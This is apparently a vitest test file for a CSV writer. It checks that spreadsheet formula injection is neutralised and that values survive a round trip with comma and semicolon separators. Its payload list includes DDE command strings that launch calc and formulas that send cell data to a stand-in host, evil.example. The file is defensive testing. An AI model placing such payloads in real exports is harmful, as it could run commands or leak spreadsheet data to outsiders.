import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { parseCsv } from './test-csv.ts'
import { writeCsv } from './write-csv.ts'

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","Pay")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  '+62 812 9034 1180',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\0=1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  "''=1+1",
  '"=1+1"',
  '"',
  '""',
  ',=1+1',
  ';=1+1',
  'a,b',
  'a"b',
  'a\r\nb',
  'a\nb',
  'a\rb',
  '',
  "O'Neil",
  '🎾 =1',
  '\u2028=1',
  'NULL',
]
test(`${payloads.length} texts with formulas or special characters cannot run in a spreadsheet, and can be read back unchanged`, () => {
  const rows = payloads.map((value) => ['names', value, 'x'])
  for (const [language, separator] of [
    ['en', ','],
    ['id', ';'],
  ] as const) {
    const text = writeCsv(rows, language)
    expect(text.startsWith('\u{FEFF}')).toBe(true)
    expect(parseCsv(text.slice(1), separator)).toEqual(rows)
    for (const value of payloads)
      expect(writeCsv([[value]], language).slice(1, -2)).not.toMatch(/^"?[=+\-@\t\r\0]/)
  }
})

test('numbers stay numbers, and null is an empty field', () => {
  expect(writeCsv([[-150000, 0, null, '-150000']], 'en')).toBe("\u{FEFF}-150000,0,,'-150000\r\n")
  expect(writeCsv([['a;b', 'a,b']], 'id')).toBe('\u{FEFF}"a;b";"a,b"\r\n')
})

test('any text can be read back unchanged', () => {
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.string({ unit: 'grapheme-composite' }), fc.string()), { minLength: 1 }),
      fc.constantFrom<'en' | 'id'>('en', 'id'),
      (rows, language) => {
        const text = writeCsv(rows, language)
        expect(parseCsv(text.slice(1), language === 'id' ? ';' : ',')).toEqual(rows)
      },
    ),
  )
})
